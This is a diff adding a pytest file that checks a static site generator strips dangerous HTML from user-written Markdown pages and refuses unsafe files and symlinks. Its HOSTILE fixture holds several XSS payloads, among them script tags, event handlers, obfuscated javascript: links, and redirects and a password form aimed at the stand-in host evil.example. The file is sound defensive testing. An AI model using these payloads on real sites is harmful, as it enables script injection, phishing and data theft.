@@ -1,0 +1,256 @@
+"""Plain pages (`pages/`): nothing in them runs, loads or leads away, and what their Markdown makes stays."""
+
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from PIL import Image
+from playwright.sync_api import Browser
+
+from conftest import PROJECT, Folder, OpenPage, png
+from tekojen_tori.publishing.plain_pages import cleaned
+from test_serve import Served
+
+HOSTILE = """\
+---
+title: Vaarallinen <script>alert(1)</script>
+description: '"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
+template: 404.html
+---
+# Otsikko {: onclick="document.title='SUORITETTU'" onmouseover="document.title='SUORITETTU'" style="position:fixed" }
+
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/">
+<script>document.title = "SUORITETTU"</script>
+<img src=x onerror="document.title='SUORITETTU'">
+<iframe srcdoc="<script>parent.document.title='SUORITETTU'</script>"></iframe>
+<iframe src="https://evil.example/"></iframe>
+<svg onload="document.title='SUORITETTU'"><animate onbegin="document.title='SUORITETTU'"/></svg>
+<details open ontoggle="document.title='SUORITETTU'"><summary>Lisää</summary>Piilossa</details>
+<form action="https://evil.example/"><input name="salasana" autofocus onfocus="document.title='SUORITETTU'"></form>
+<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
+<object data="x.svg"></object><embed src="x.svg"><math href="javascript:alert(1)">x</math>
+<div class="md-overlay top menu" style="position:fixed;inset:0">Peite</div>
+<a href="java&#9;script:document.title='SUORITETTU'" id="sisalto">Linkki</a>
+<img src="https://evil.example/seuranta.png" alt="Seuranta"><img src="//evil.example/s.png" alt="s">
+
+## Toinen <img src=y onerror="document.title='SUORITETTU'"> otsikko {: #find .menu }
+
+[Linkki](javascript:alert(1)){: onclick="document.title='SUORITETTU'" target="_top" } ja [toinen](data:text/html,x)
+"""
+GOOD = """\
+# Ohje
+
+Katso [tietosuoja](tietosuoja.md#evasteet), [kappale](#oma) ja [kunta](https://kunta.example/){ .button lang=fi }.
+
+## Ääkkösiä otsikossa
+
+## Oma {: #oma }
+
+| Vasen | Oikea |
+|:------|------:|
+| a     | 1     |
+
+<details><summary>Lisää</summary>Enemmän</details>
+
+```python
+print("x < y")
+```
+
+![Kaavio](kuva.png) ja [liite](liite.pdf)
+"""
+
+
+@dataclass
+class Project:
+    """A project of one deed, with plain pages of its own."""
+
+    root: Path
+
+    def page(self, name: str, text: str | bytes) -> None:
+        (self.root / "pages" / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+
+    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "mkdocs", "build", *arguments, "-f", str(self.root / "mkdocs.yml")],
+            env=os.environ | {"NO_MKDOCS_2_WARNING": "1"}, capture_output=True, text=True, check=False,
+        )  # fmt: skip
+
+    @property
+    def site(self) -> Path:
+        return self.root / "site"
+
+
+@pytest.fixture(scope="module")
+def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
+    root = tmp_path_factory.mktemp("project")
+    for name in ("mkdocs.yml", "pages", "registers"):
+        source = PROJECT / name
+        if source.is_dir():
+            shutil.copytree(source, root / name)
+        else:
+            shutil.copy(source, root)
+    for name in ("features", "development_path", "programme"):
+        (root / "registers" / f"{name}.yml").unlink()
+    Folder(root / "x").deed()
+    (root / "x" / "deeds").rename(root / "deeds")
+    project = Project(root)
+    project.page("vaara.md", HOSTILE)
+    project.page("ohje.md", GOOD)
+    exif = Image.Exif()
+    exif[0x010F] = "SALAISUUS"
+    Image.new("RGB", (20, 10)).save(root / "pages" / "kuva.png", exif=exif)
+    project.page("liite.pdf", b"%PDF-1.7")
+    yield project
+
+
+@pytest.fixture(scope="module")
+def built(project: Project) -> Project:
+    result = project.run("--strict")
+    assert result.returncode == 0, result.stderr
+    return project
+
+
+def test_nothing_in_a_plain_page_runs_loads_or_leads_away(built: Project, open_page: OpenPage) -> None:
+    html = (built.site / "vaara/index.html").read_text()
+    main = html[html.index("<main") : html.index("</main>")]
+    for mark in ("SUORITETTU", "http-equiv", "<base", "<script", "<iframe", "<svg onload", "<form", "<input", "<style",
+                 "javascript", "<object", "<embed", "md-overlay", " style=", "onclick", "src=\"https", "src=\"//"):  # fmt: skip
+        assert mark not in main, mark
+    assert html.count('http-equiv="refresh"') == 0
+    assert html.count("Content-Security-Policy") == 1, (
+        "it is in the site's own frame, whatever template the page asks for"
+    )
+    assert main.count('id="sisalto"') == 1
+    for unprotected in (False, True):
+        page = open_page(built.site, "404.html", bypass_csp=unprotected)
+        asked: list[str] = []
+        page.on("request", lambda request, asked=asked: asked.append(request.url))
+        page.goto(page.url.replace("404.html", "vaara/"))
+        page.click("h1")
+        page.hover("h1")
+        page.wait_for_timeout(300)
+        assert page.url.endswith("/vaara/")
+        assert page.title() == "Vaarallinen <script>alert(1)</script> – Tekojen tori"
+        assert [one for one in asked if "evil" in one] == []
+
+
+def test_nothing_in_a_plain_page_runs_in_a_preview_either(project: Project, browser: Browser) -> None:
+    served = Served(project.root, project=project.root)
+    try:
+        served.wait_for("Toinen", "vaara/")
+        page = browser.new_page()
+        asked: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.goto(f"http://{served.address}/vaara/")
+        page.click("h1")
+        page.wait_for_timeout(300)
+        assert page.url.endswith("/vaara/")
+        assert "SUORITETTU" not in page.title()
+        assert [one for one in asked if "evil" in one] == []
+        page.close()
+    finally:
+        served.stop()
+
+
+def test_what_the_markdown_of_plain_pages_makes_stays(built: Project) -> None:
+    html = (built.site / "ohje/index.html").read_text()
+    for mark in (
+        '<a href="../tietosuoja/#evasteet"', '<a href="#oma"', '<h2 id="oma">', '<h2 id="aakkosia-otsikossa">', 'align="right"',
+        '<details><summary>Lisää</summary>Enemmän</details>', '<code class="language-python">print("x &lt; y")',
+        '<a class="button" href="https://kunta.example/" lang="fi"', '<img alt="Kaavio" src="../kuva.png"', '<a href="../liite.pdf"',
+    ):  # fmt: skip
+        assert mark in html, mark
+    picture = (built.site / "kuva.png").read_bytes()
+    assert b"SALAISUUS" not in picture
+    assert picture.startswith(b"\x89PNG")
+    assert (built.site / "liite.pdf").is_file()
+
+
+@pytest.mark.parametrize(
+    ("html", "clean"),
+    [
+        ('<td style="text-align: right" align="right" colspan="2">1</td>', None),
+        ('<p class="admonition-title button x">a</p>', '<p class="admonition-title button">a</p>'),
+        ('<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
+         '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1" rel="noopener">1</a></sup>'),
+        ('<img src="/\t/evil.example/x.png" alt="x">', '<img alt="x">'),
+        ('<img src="\\\\evil.example/x.png" alt="x">', '<img alt="x">'),
+        ('<img src="ht\ntps:evil" alt="x">', '<img alt="x">'),
+        ('<img src="a/b:c.png" alt="x">', '<img src="a/b:c.png" alt="x">'),
+        ('<p id="find">x</p>', "<p>x</p>"),
+        ("<nav><p>x</p></nav><header>y</header>", "<p>x</p>y"),
+    ],
+)  # fmt: skip
+def test_pages_are_cleaned_by_a_list(html: str, clean: str | None) -> None:
+    found = cleaned(html if clean else f"<table><tr>{html}</tr></table>")
+    assert found == (clean or '<table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table>')
+
+
+def test_files_beside_the_pages_are_published_by_a_list_and_links_out_never(project: Project, tmp_path: Path) -> None:
+    (tmp_path / "salaisuus.txt").write_text("SALAISUUS")
+    (tmp_path / "salaisuus.md").write_text("# SALAISUUS\n")
+    bad = {
+        "skripti.html": b"<script>alert(1)</script>",
+        "kuva.svg": b"<svg onload='alert(1)'/>",
+        "ohjelma.js": b"alert(1)",
+        "vale.png": b"<svg/>",
+    }
+    for name, data in bad.items():
+        project.page(name, data)
+    links = {"linkki.txt": "salaisuus.txt", "linkki.md": "salaisuus.md"}
+    for name, target in links.items():
+        (project.root / "pages" / name).symlink_to(tmp_path / target)
+    links |= {"silmukka.md": "silmukka.md", "katkennut.md": "mikaan.md"}
+    for name in ("silmukka.md", "katkennut.md"):
+        (project.root / "pages" / name).symlink_to(links[name])
+    project.page("hyva.png", png(9, 9))
+    try:
+        result = project.run()
+        assert result.returncode == 0, result.stderr
+        for name in (*bad, *links):
+            assert f"Tiedosto pages/{name} jätettiin pois sivustolta:" in result.stderr, name
+            assert not (project.site / name).exists()
+        assert (project.site / "hyva.png").is_file()
+        assert not any("SALAISUUS" in page.read_text() for page in project.site.rglob("*.html"))
+        assert project.run("--strict").returncode == 1
+    finally:
+        for name in (*bad, *links, "hyva.png"):
+            (project.root / "pages" / name).unlink()
+
+
+def test_a_page_at_an_address_of_the_site_stops_the_build_and_the_previous_site_stays(built: Project) -> None:
+    before = (built.site / "haku/index.html").read_bytes()
+    built.page("haku.md", "# Oma hakusivu\n")
+    try:
+        result = built.run()
+        assert result.returncode == 1
+        assert "Osoitteeseen 'haku/' tulisi kaksi eri sivua tai tiedostoa." in result.stderr
+        assert "Traceback" not in result.stderr
+        assert (built.site / "haku/index.html").read_bytes() == before
+    finally:
+        (built.root / "pages" / "haku.md").unlink()
+
+
+def test_no_unfilled_template_of_the_engine_is_published(folder: Folder) -> None:
+    folder.deed()
+    command = [
+        sys.executable,
+        "-m",
+        "mkdocs",
+        "build",
+        "-f",
+        str(PROJECT / "mkdocs.yml"),
+        "-d",
+        str(folder.root / "site"),
+    ]
+    here = {"TORI_CONTENT": str(folder.root), "NO_MKDOCS_2_WARNING": "1", "SITE_URL": ""}
+    result = subprocess.run(command, env=os.environ | here, capture_output=True, text=True, check=False)
+    assert result.returncode == 0, result.stderr
+    left = [path.name for path in (folder.root / "site").rglob("*.xml") if "{%" in path.read_text()]
+    assert left == []
